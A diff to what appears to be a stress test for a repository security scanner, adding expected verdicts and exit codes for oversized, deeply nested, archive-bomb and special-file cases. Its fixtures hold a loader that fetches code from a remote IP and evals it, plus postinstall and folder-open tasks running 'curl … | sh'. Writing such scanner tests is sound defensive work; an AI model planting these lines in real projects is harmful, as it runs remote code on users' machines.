@@ -85,11 +85,16 @@ const deep = n => '['.repeat(n) + ']'.repeat(n);
 const PKG = JSON.stringify({ name: 'worst', version: '1.0.0', scripts: { postinstall: 'node setup.js' } });
 const LOADER = 'require("http").get("http://203.0.113.10/a", r => r.on("data", d => eval(String(d))));\n';
 
-/** [family, case, make() → args after `scan` (a target and flags)] */
+/**
+ * [family, case, expected, make() → args after `scan` (a target and flags)]. `expected` is the
+ * verdict (the scan runs with `--fail-on review`, so block and review exit 1 and pass exits 0) or
+ * `error`: no report, exit 2 (a target Airlock refuses).
+ */
 const cases = [
   [
     'read caps',
     'package.json 256 MiB of padding, postinstall at the end',
+    'block',
     () => [
       tree('pkg', {
         'package.json': `{"description":"${'a'.repeat(256 * MiB)}",\n"scripts":{"postinstall":"curl https://x.example.invalid | sh"}}\n`,
@@ -99,6 +104,7 @@ const cases = [
   [
     'read caps',
     'tasks.json 256 MiB comment, folder-open task at the end',
+    'block',
     () => [
       tree('tasks-pad', {
         '.vscode/tasks.json': `{ // ${'p'.repeat(256 * MiB)}\n"tasks":[{"label":"a","command":"curl https://x.example.invalid | sh","runOptions":{"runOn":"folderOpen"}}]}\n`,
@@ -108,6 +114,7 @@ const cases = [
   [
     'read caps',
     'JS entry 15 MiB of ordinary lines, loader at the end',
+    'block',
     () => [
       tree('js', {
         'package.json': PKG,
@@ -118,6 +125,7 @@ const cases = [
   [
     'read caps',
     'JS entry 1 GiB of newlines, eval at the end',
+    'review',
     () => [
       tree('lines', {
         'package.json': PKG,
@@ -131,11 +139,13 @@ const cases = [
   [
     'read caps',
     'JS entry of one 15 MiB minified line, loader at the end',
+    'block',
     () => [tree('minified', { 'package.json': PKG, 'setup.js': `${'var a=1;'.repeat((15 * MiB) / 8)}${LOADER}` })],
   ],
   [
     'special files',
     'FIFO named package.json, FIFO in .git/objects',
+    'review',
     () => {
       const dir = tree('fifo', { 'README.md': '# x\n' });
       spawnSync('git', ['init', '-q', dir]);
@@ -146,6 +156,7 @@ const cases = [
   [
     'special files',
     '1,000 links out of the tree, .vscode among them',
+    'review',
     () => {
       const dir = tree('links', { 'package.json': PKG });
       symlinkSync('/etc', join(dir, '.vscode'));
@@ -156,6 +167,7 @@ const cases = [
   [
     'format readers',
     'tsconfig.json and package.json nested 1,000,000 deep',
+    'review',
     () => [
       tree('nested', {
         'package.json': `{"name":"n","scripts":{"dev":"node i.js"},"x":${deep(1_000_000)}}`,
@@ -167,6 +179,7 @@ const cases = [
   [
     'format readers',
     'lefthook.yml of 1,000,000 nested sequences, YAML alias bomb',
+    'review',
     () => [
       tree('yaml-deep', {
         'package.json': PKG,
@@ -178,18 +191,26 @@ const cases = [
   [
     'format readers',
     'docker-compose.yml of 16 MiB (at the YAML cap), 40,000 services',
+    'pass',
     () => {
       const services = Array.from(
         { length: 40_000 },
         (_, i) =>
           `  s${i}:\n    image: example/app:${i}\n    command: ["node", "server.js", "--port", "${i}"]\n    environment:\n      - KEY_${i}=${'v'.repeat(300)}\n`,
       );
-      return [tree('compose', { 'docker-compose.yml': `services:\n${services.join('').slice(0, 16 * MiB - 64)}\n` })];
+      // Whole services only, up to the cap: valid YAML, so the cost measured is the reading.
+      let body = 'services:\n';
+      for (const s of services) {
+        if (body.length + s.length > 16 * MiB - 64) break;
+        body += s;
+      }
+      return [tree('compose', { 'docker-compose.yml': body })];
     },
   ],
   [
     'regular expressions',
     'devcontainer.json command padded with 15 MiB of whitespace',
+    'block',
     () => [
       tree('regex', {
         '.devcontainer/devcontainer.json': JSON.stringify({
@@ -201,11 +222,13 @@ const cases = [
   [
     'code analysis',
     'JS entry nested 100,000 calls deep',
+    'block',
     () => [tree('js-deep', { 'package.json': PKG, 'setup.js': `${'f('.repeat(100_000)}1${')'.repeat(100_000)};\n${LOADER}` })],
   ],
   [
     'blowups',
     'package-lock.json of 200,000 packages',
+    'pass',
     () => {
       const packages = { '': { name: 'big', dependencies: { 'p-0': '1.0.0' } } };
       for (let i = 0; i < 200_000; i++)
@@ -225,6 +248,7 @@ const cases = [
   [
     'blowups',
     'pnpm-lock.yaml of 200,000 packages (47 MB)',
+    'pass',
     () => {
       const parts = [
         "lockfileVersion: '9.0'\n\nimporters:\n\n  .:\n    dependencies:\n      p-0:\n        specifier: 1.0.0\n        version: 1.0.0\n\npackages:\n",
@@ -244,6 +268,7 @@ const cases = [
   [
     'blowups',
     'tasks.json of 100,000 tasks (12 MB)',
+    'block',
     () => {
       const tasks = Array.from({ length: 100_000 }, (_, i) => ({
         label: `t${i}`,
@@ -257,6 +282,7 @@ const cases = [
   [
     'blowups',
     '100,000 small files',
+    'pass',
     () => {
       const dir = tree('files', { 'package.json': PKG });
       for (let d = 0; d < 100; d++) {
@@ -266,11 +292,12 @@ const cases = [
       return [dir];
     },
   ],
-  ['archives', 'zip of 2,600 small entries declaring 2.5 GiB', () => [zip('many', 2600, MiB)]],
-  ['archives', 'zip of one 1 GiB entry of zeros (about 1,000:1)', () => [zip('bomb', 1, 1024 * MiB - 1)]],
+  ['archives', 'zip of 2,600 small entries declaring 2.5 GiB', 'error', () => [zip('many', 2600, MiB)]],
+  ['archives', 'zip of one 1 GiB entry of zeros (about 1,000:1)', 'error', () => [zip('bomb', 1, 1024 * MiB - 1)]],
   [
     'git',
     'git:// host that accepts and never answers (default --clone-timeout)',
+    'error',
     () => {
       const server = createServer(() => {}).listen(0, '127.0.0.1');
       return new Promise(resolve => server.on('listening', () => resolve([`git://127.0.0.1:${server.address().port}/x`])));
@@ -280,9 +307,13 @@ const cases = [
 
 function run(args) {
   return new Promise(resolve => {
-    const child = spawn('/usr/bin/time', ['-f', '%e %M', process.execPath, CLI, 'scan', ...args, '--format', 'json', '--no-provenance'], {
-      stdio: ['ignore', 'pipe', 'pipe'],
-    });
+    const child = spawn(
+      '/usr/bin/time',
+      ['-f', '%e %M', process.execPath, CLI, 'scan', ...args, '--format', 'json', '--no-provenance', '--fail-on', 'review'],
+      {
+        stdio: ['ignore', 'pipe', 'pipe'],
+      },
+    );
     let stdout = '';
     let stderr = '';
     child.stdout.on('data', d => (stdout += d));
@@ -291,26 +322,39 @@ function run(args) {
   });
 }
 
+const EXIT = { block: 1, review: 1, pass: 0, error: 2 };
+
 const only = process.argv.slice(2);
 let failed = 0;
-for (const [family, name, make] of cases) {
+let wrong = 0;
+for (const [family, name, expected, make] of cases) {
   if (only.length > 0 && !only.some(s => `${family} ${name}`.includes(s))) continue;
   const args = await make();
   const r = await run(args);
   const lines = r.stderr.trim().split('\n');
   const [secs, kb] = (lines.pop() ?? '').split(' ');
+  let outcome;
   let verdict;
   try {
-    verdict = `verdict ${JSON.parse(r.stdout).verdict}`;
+    outcome = JSON.parse(r.stdout).verdict;
+    verdict = `verdict ${outcome}`;
   } catch {
+    outcome = 'error';
     verdict = `no report: ${(lines.find(l => l.startsWith('airlock')) ?? '').slice(0, 120)}`;
   }
   const mb = Math.round(Number(kb) / 1024);
   const ok = Number(secs) < LIMIT_S && mb < LIMIT_MB;
+  const right = outcome === expected && r.status === EXIT[expected];
   if (!ok) failed++;
-  console.log(`${ok ? 'ok  ' : 'OVER'} ${family}: ${name}: ${secs} s, ${mb} MB peak RSS, ${verdict}, exit ${r.status}`);
+  if (!right) wrong++;
+  console.log(
+    `${ok ? 'ok  ' : 'OVER'} ${right ? 'as expected' : `EXPECTED ${expected} (exit ${EXIT[expected]})`} ${family}: ${name}: ${secs} s, ${mb} MB peak RSS, ${verdict}, exit ${r.status}`,
+  );
   for (const a of args) if (a.startsWith(root)) rmSync(a, { recursive: true, force: true });
 }
 rmSync(root, { recursive: true, force: true });
 console.log(failed === 0 ? `every case under ${LIMIT_S} s and ${LIMIT_MB} MB` : `${failed} case(s) over ${LIMIT_S} s or ${LIMIT_MB} MB`);
-process.exit(failed === 0 ? 0 : 1);
+console.log(
+  wrong === 0 ? 'every verdict and exit code (--fail-on review) as expected' : `${wrong} case(s) with another verdict or exit code`,
+);
+process.exit(failed === 0 && wrong === 0 ? 0 : 1);
